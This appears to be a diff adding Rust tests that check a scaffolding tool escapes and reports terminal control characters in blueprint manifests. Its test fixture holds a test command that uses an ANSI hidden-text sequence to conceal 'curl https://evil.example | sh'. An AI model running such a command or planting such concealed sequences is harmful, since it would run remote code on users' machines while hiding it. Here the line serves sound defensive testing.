@@ -134,3 +134,105 @@ fn the_output_of_a_whole_project_is_capped() {
     );
     assert!(entries(&t.work()).is_empty(), "{:?}", entries(&t.work()));
 }
+
+/// A manifest whose texts carry terminal sequences: an OSC title change in the name, a
+/// colour in the description, and a concealed `curl | sh` in the test command.
+const ANSI_MANIFEST: &str = r#"id = "evil"
+name = "Evil\u001b]0;pwned\u0007"
+language = "python"
+description = "Looks \u001b[31mred\u001b[0m"
+version = "1.0.0"
+proof = "syntax"
+
+[commands]
+install = "true"
+test = "make test\u001b[8m; curl https://evil.example | sh\u001b[0m"
+run = "true"
+
+[[options]]
+key = "port"
+type = "int"
+default = 8000
+help = "Port\u009b2J"
+"#;
+
+const ESCAPED_TEST_COMMAND: &str = "make test\\u{1b}[8m; curl https://evil.example | sh\\u{1b}[0m";
+
+#[track_caller]
+fn no_escape_sequences(text: &str) {
+    assert!(
+        !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{9b}'),
+        "raw control characters in {text:?}"
+    );
+}
+
+#[test]
+fn ansi_in_a_folder_blueprint_name_is_escaped_in_list() {
+    let t = Test::new();
+    let dir = evil_blueprint(&t, ANSI_MANIFEST, "# {{project_name}}\n");
+    let t = t.args(["list", "--blueprints-dir", &dir]);
+    let run = t.run();
+    run.status(0).stdout_has(
+        "\nevil         Evil\\u{1b}]0;pwned\\u{7}  python      Looks \\u{1b}[31mred\\u{1b}[0m\n",
+    );
+    no_escape_sequences(&run.stdout);
+    // JSON escapes them its own way, and stays the data as written.
+    let run = t.then(["list", "--json", "--blueprints-dir", &dir]).run();
+    run.status(0)
+        .stdout_has(r#""name": "Evil\u001b]0;pwned\u0007","#);
+    no_escape_sequences(&run.stdout);
+}
+
+#[test]
+fn ansi_in_a_folder_blueprint_is_escaped_in_show_and_in_the_next_steps() {
+    let t = Test::new();
+    let dir = evil_blueprint(&t, ANSI_MANIFEST, "# {{project_name}}\n");
+    let t = t.args(["show", "evil", "--blueprints-dir", &dir]);
+    let run = t.run();
+    run.status(0)
+        .stdout_has(&format!("  test     {ESCAPED_TEST_COMMAND}\n"))
+        .stdout_has("  port  Port\\u{9b}2J. Default: 8000.");
+    no_escape_sequences(&run.stdout);
+    let run = t
+        .then([
+            "new",
+            "svc",
+            "-f",
+            "evil",
+            "-y",
+            "--no-git",
+            "--blueprints-dir",
+            &dir,
+        ])
+        .run();
+    run.status(0)
+        .stderr_has(&format!("  {ESCAPED_TEST_COMMAND:<50}  # test\n"));
+    no_escape_sequences(&run.stderr);
+}
+
+#[test]
+fn blueprint_check_reports_control_characters_in_manifest_texts() {
+    let t = Test::new();
+    let dir = evil_blueprint(&t, ANSI_MANIFEST, "# {{project_name}}\n");
+    let t = t.args(["blueprint", "check", &format!("{dir}/evil")]);
+    let run = t.run();
+    assert_ne!(run.status, 0, "{}", run.stdout);
+    run.stdout_has(
+        "problem: blueprint.toml: `name` holds a control character (Evil\\u{1b}]0;pwned\\u{7}); a terminal acts on those instead of showing them, and could hide what the text says\n",
+    )
+    .stdout_has("problem: blueprint.toml: `commands.test` holds a control character")
+    .stdout_has("problem: blueprint.toml: `options.port.help` holds a control character")
+    .stdout_has("problem: blueprint.toml: `description` holds a control character");
+    no_escape_sequences(&run.stdout);
+}
+
+#[test]
+fn control_characters_in_an_error_are_escaped() {
+    let t = Test::new();
+    let dir = evil_blueprint(&t, MANIFEST, "{{nope\u{1b}[2J}}\n");
+    let t = t.args(["new", "svc", "-f", "evil", "-y", "--blueprints-dir", &dir]);
+    let run = t.run();
+    assert_ne!(run.status, 0);
+    run.stderr_has("\\u{1b}[2J");
+    no_escape_sequences(&run.stderr);
+}
